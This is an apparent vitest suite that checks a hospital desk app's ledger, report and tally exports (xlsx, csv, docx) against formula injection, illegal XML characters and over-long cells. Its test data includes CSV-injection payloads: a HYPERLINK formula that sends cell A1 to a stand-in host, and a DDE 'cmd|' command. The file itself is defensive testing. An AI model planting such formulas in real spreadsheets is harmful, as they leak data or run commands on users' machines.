// Exports against hostile text, end to end through the handlers: formula-like titles, departments, themes,
// venues and mention titles are neutralized in every spreadsheet the desk writes (ledger xlsx/csv, report
// xlsx/csv, tally drill-down xlsx/csv); control characters, U+FFFE/U+FFFF and lone surrogates never reach an
// Office file (every XML part of the xlsx/docx must pass a strict XML 1.0 parser); cells past Excel's 32,767
// characters are cut with a marker. Every exporter is checked to go through services/export/cells.
import { readdirSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import ExcelJS from 'exceljs'
import JSZip from 'jszip'
import { SaxesParser } from 'saxes'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { freshDesk, type TestDesk } from '../helpers/desk'
import { exportFile, b64 } from '../ledger/helpers'
import { finishedJob } from '../../handlers/jobs/runner'
import { ingestItems } from '../../handlers/feeds/ingest'
import { currentMatcher, ensureProfileRule } from '../../handlers/watch/rules'
import { readLexicon } from '../../handlers/watch/settings'
import { MAX_CELL_CHARS, TRUNCATED_MARK } from '../../services/export/cells'
import { decodeText, parseCsv } from '../../services/export/csv'
import { ledgerCsv, ledgerXlsx, type LedgerRow } from '../../services/ledger/write-file'
import { officialDocx } from '../../services/report/docx'
import { tableCsv, tablesXlsx } from '../../services/report/files'
import { LEDGER_COLUMNS } from '../../shared/contract/ledger'
import type { JobStatus } from '../../shared/contract/jobs'
import type { FilePayload } from '../../shared/contract/ledger'

/** Text a spreadsheet would run. Leading tab/CR cannot come through the handlers (fields are trimmed): see below. */
const FORMULAS = ['=HYPERLINK("http://127.0.0.2/?"&A1,"点击")', "=cmd|' /C calc'!A0", '+86 0855-1234567', '-2+3', '@SUM(1,2)', "'=1+1"]
const CONTROLS = Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).join('') + '\u007f\ufffe\uffff'
const CONTROL_TITLE = `控制${CONTROLS}\ud800孤\udc00尾`
/** A department becomes a figure, its label a drill-down sheet's name (workbook.xml). */
const CONTROL_DEPT = `科\u0001室\ufffe`
/** Anything XML 1.0 forbids (tab, LF and CR are allowed; a surrogate is only legal as half of a pair). */
const ILLEGAL_XML = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/
const DANGEROUS_START = /^[=+\-@\t\r]/

let d: TestDesk
beforeAll(async () => {
  d = freshDesk()
  await d.call('profile-save', { fullName: '黄平县中医医院', aliases: ['我院'], departments: [] })
  for (const [i, f] of FORMULAS.entries()) {
    await d.call('piece-create', {
      channel: 'media', title: `${f}`, date: '2023-06-12', status: 'accepted', outletLevel: '省级',
      department: f.slice(0, 40), author: f, venue: f, notes: f, themes: [f.slice(0, 20)], link: `http://127.0.0.1/${i}`, backfill: true
    })
  }
  const hostile = await d.call('piece-create', { channel: 'media', title: CONTROL_TITLE, date: '2023-06-13', status: 'accepted', outletLevel: '省级', venue: `媒体${CONTROLS}`, notes: CONTROL_TITLE, department: CONTROL_DEPT, backfill: true })
  await d.call('evidence-add', { pieceId: hostile.id, fileName: `佐证${CONTROLS}.pdf`, dataBase64: b64('%PDF-1.4\n%%EOF\n') })
  ensureProfileRule(d.ctx)
  const setup = { matcher: currentMatcher(d.ctx.desk.db), lexicon: readLexicon(d.ctx.desk.db) }
  const items = [...FORMULAS, CONTROL_TITLE].map((t, i) => ({ guid: `x${i}`, link: `http://127.0.0.1/m${i}`, title: `${t}我院`, text: '', publishedAt: '2023-06-10T02:00:00.000Z' }))
  d.ctx.desk.tx(() => ingestItems(d.ctx.desk.sqlite, setup, { id: null, weight: 1 }, items, '2023-06-15T02:00:00.000Z'))
})
afterAll(() => d?.close())

async function job(name: 'report-export-start' | 'tally-rows-export-start', args: Record<string, unknown>): Promise<Buffer> {
  const { jobId } = await d.call(name, args as never)
  const s = (await finishedJob(d.ctx, jobId)) as JobStatus<FilePayload>
  if (s.error) throw new Error(`${name}: ${s.error.message}`)
  return Buffer.from(s.result!.base64, 'base64')
}

/** Every XML part of an Office file through a strict XML 1.0 parser (saxes checks characters, as Word and Excel do). */
async function strictXmlParts(bytes: Buffer): Promise<Map<string, string>> {
  const zip = await JSZip.loadAsync(bytes)
  const parts = new Map<string, string>()
  for (const [name, file] of Object.entries(zip.files)) {
    if (file.dir || !/\.(xml|rels)$/.test(name)) continue
    const xml = await file.async('string')
    const errors: string[] = []
    const parser = new SaxesParser({ xmlns: true })
    parser.on('error', (e) => errors.push(e.message))
    parser.write(xml).close()
    expect(errors, name).toEqual([])
    expect(ILLEGAL_XML.test(xml), name).toBe(false)
    parts.set(name, xml)
  }
  return parts
}

/** Every text cell of every sheet, after checking the package is well-formed and holds no formula. */
async function xlsxCells(bytes: Buffer): Promise<string[]> {
  const parts = await strictXmlParts(bytes)
  for (const [name, xml] of parts) if (name.startsWith('xl/worksheets/')) expect(xml, name).not.toMatch(/<f[ >]/)
  const wb = new ExcelJS.Workbook()
  await wb.xlsx.load(bytes as unknown as ArrayBuffer)
  const cells: string[] = []
  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((c) => {
    expect(c.type, `${ws.name}!${c.address}`).not.toBe(ExcelJS.ValueType.Formula)
    if (typeof c.value === 'string') cells.push(c.value)
  })))
  return cells
}

const csvCells = (bytes: Buffer): string[] => parseCsv(decodeText(bytes).text).flat()

/** No cell may start a formula; each payload is there, behind one apostrophe. */
function expectNeutral(cells: string[], where: string, payloads: readonly string[] = FORMULAS): void {
  expect(cells.filter((c) => DANGEROUS_START.test(c)), where).toEqual([])
  for (const f of payloads) expect(cells.some((c) => c === `'${f}` || c.startsWith(`'${f}`)), `${where}: ${f}`).toBe(true)
}

function expectClean(cells: string[], where: string): void {
  expect(cells.filter((c) => ILLEGAL_XML.test(c) || /[\u007f]/.test(c)), where).toEqual([])
  // SQLite keeps a lone surrogate as its three WTF-8 bytes, read back as three U+FFFD: legal, and visible.
  expect(cells.some((c) => /^控制[\t\n\r]*\ufffd*孤\ufffd*尾$/.test(c)), `${where}: the control title, cleaned`).toBe(true)
}

describe('exports: formula injection neutralized, control characters stripped', () => {
  it('ledger xlsx and csv (the export job)', async () => {
    const xlsx = await xlsxCells(Buffer.from((await exportFile(d, 'xlsx')).base64, 'base64'))
    expectNeutral(xlsx, 'ledger xlsx')
    expectClean(xlsx, 'ledger xlsx')
    const csv = csvCells(Buffer.from((await exportFile(d, 'csv')).base64, 'base64'))
    expectNeutral(csv, 'ledger csv')
    expectClean(csv, 'ledger csv')
  })

  it('report xlsx and csv, and the Word draft opens as strict XML', async () => {
    const xlsx = await xlsxCells(await job('report-export-start', { period: '2023H1', format: 'xlsx' }))
    expectNeutral(xlsx, 'report xlsx') // piece sheets, mention sheet, department/theme/outlet figure labels
    expectNeutral(xlsx.filter((c) => c.endsWith('我院')).map((c) => c.replace(/我院$/, '')), 'report xlsx mentions')
    expectClean(xlsx, 'report xlsx')
    // The CSV is the figure table: departments, themes and outlets are officer-typed labels (after a prefix).
    const csv = csvCells(await job('report-export-start', { period: '2023H1', format: 'csv' }))
    expect(csv.filter((c) => DANGEROUS_START.test(c))).toEqual([])
    expect(csv).toEqual(expect.arrayContaining([`科室·${FORMULAS[0]}`, `主题·${FORMULAS[1]}`, `报送·${FORMULAS[4]}`]))

    const parts = await strictXmlParts(await job('report-export-start', { period: '2023H1', format: 'docx' }))
    const text = parts.get('word/document.xml')!
    expect(text).toMatch(/控制[^<]*孤[^<]*尾/) // the title is there (quoted in the draft, listed with its evidence), cleaned
    expect(text).toContain('佐证')
  })

  it('tally drill-down xlsx and csv', async () => {
    for (const key of ['pieces.total', 'mentions.total', `department.${CONTROL_DEPT}`]) {
      const xlsx = await xlsxCells(await job('tally-rows-export-start', { period: '2023-06', key, format: 'xlsx' }))
      const csv = csvCells(await job('tally-rows-export-start', { period: '2023-06', key, format: 'csv' }))
      for (const [cells, where] of [[xlsx, `${key} xlsx`], [csv, `${key} csv`]] as const) {
        expect(cells.filter((c) => DANGEROUS_START.test(c)), where).toEqual([])
        expect(cells.filter((c) => ILLEGAL_XML.test(c)), where).toEqual([])
        expect(cells.some((c) => c.startsWith(`'${FORMULAS[0]}`) || c.startsWith('控制')), where).toBe(true)
      }
    }
  })

  it('tab- and CR-led cells, and cells past 32,767 characters, in the ledger and report writers', async () => {
    const long = '长'.repeat(40_000)
    const empty = Object.fromEntries(LEDGER_COLUMNS.map((c) => [c, null])) as LedgerRow
    const rows: LedgerRow[] = [
      { ...empty, 日期: '2023-06-01', 渠道: '医院官网', 标题: '\t=1+1', 备注: long },
      { ...empty, 日期: '2023-06-02', 渠道: '医院官网', 标题: '\r=1+1', 备注: `${CONTROLS}尾` }
    ]
    const table = { name: '明细', columns: [{ header: '标题', width: 40 }, { header: '备注', width: 40 }], rows: [['\t=1+1', long], ['\r=1+1', `${CONTROLS}尾`]] }
    const files: [string, string[]][] = [
      ['ledger xlsx', await xlsxCells(await ledgerXlsx(rows))],
      ['ledger csv', csvCells(ledgerCsv(rows))],
      ['report xlsx', await xlsxCells(await tablesXlsx([table]))],
      ['report csv', csvCells(tableCsv(table))]
    ]
    for (const [where, cells] of files) {
      expect(cells.filter((c) => DANGEROUS_START.test(c)), where).toEqual([])
      // xlsx may read CR back as LF; the ledger workbook names each title twice (台账 and 审核记录)
      expect(cells.filter((c) => /^'[\t\r\n]=1\+1$/.test(c)), where).toHaveLength(where === 'ledger xlsx' ? 4 : 2)
      const cut = cells.find((c) => c.startsWith('长'))!
      expect(cut.length, where).toBe(MAX_CELL_CHARS)
      expect(cut.endsWith(TRUNCATED_MARK), where).toBe(true)
      expect(cells.filter((c) => c.endsWith('尾')).map((c) => ILLEGAL_XML.test(c)), where).toEqual([false])
    }
  })

  it('the Word writer drops control characters and unpaired surrogates that never went through the database', async () => {
    const kinds = ['title', 'heading', 'body', 'note', 'sign'] as const
    const parts = await strictXmlParts(await officialDocx({
      title: CONTROL_TITLE, hospital: CONTROL_TITLE, subject: '2023年上半年意识形态工作总结',
      paragraphs: kinds.map((kind) => ({ kind, key: kind, text: CONTROL_TITLE, confirm: true })),
      tables: [{ heading: '附表', headers: ['文件名', '台账记录'], share: [1, 1], rows: [[`${CONTROL_TITLE}.pdf`, CONTROL_TITLE]] }]
    }))
    // paragraphs but the title, file name, title cell (a title breaks its line where the text says '\n', on purpose)
    expect(parts.get('word/document.xml')!.match(/控制[\t\n\r]*孤尾/g)).toHaveLength(kinds.length - 1 + 2)
  })

  it('every exporter writes its cells through services/export/cells', () => {
    // Spreadsheet writers: each must import safeCell and use it on every text value; Word: stripControls.
    const read = (f: string) => readFileSync(join(process.cwd(), f), 'utf8')
    for (const f of ['services/ledger/write-file.ts', 'services/report/files.ts']) {
      const src = read(f)
      expect(src, f).toMatch(/import \{[^}]*\bsafeCell\b[^}]*\} from '\.\.\/export\/cells'/)
      expect(src.match(/\bsafeCell\(/g)?.length ?? 0, f).toBeGreaterThanOrEqual(2) // xlsx and csv paths
    }
    expect(read('services/report/docx.ts')).toMatch(/import \{[^}]*\bstripControls\b[^}]*\} from '\.\.\/export\/cells'/)
    // No other file writes spreadsheets or CSV: a new exporter would have to be added above.
    const writers = ['handlers', 'services'].flatMap((dir) => listTs(join(process.cwd(), dir)))
      .filter((f) => /writeBuffer\(|toCsv\(|Packer\.to/.test(readFileSync(f, 'utf8')))
      .map((f) => f.slice(process.cwd().length + 1)).sort()
    expect(writers).toEqual(['services/export/csv.ts', 'services/ledger/write-file.ts', 'services/report/docx.ts', 'services/report/files.ts'])
  })
})

function listTs(dir: string): string[] {
  return readdirSync(dir).flatMap((n) => {
    const p = join(dir, n)
    return statSync(p).isDirectory() ? listTs(p) : p.endsWith('.ts') ? [p] : []
  })
}
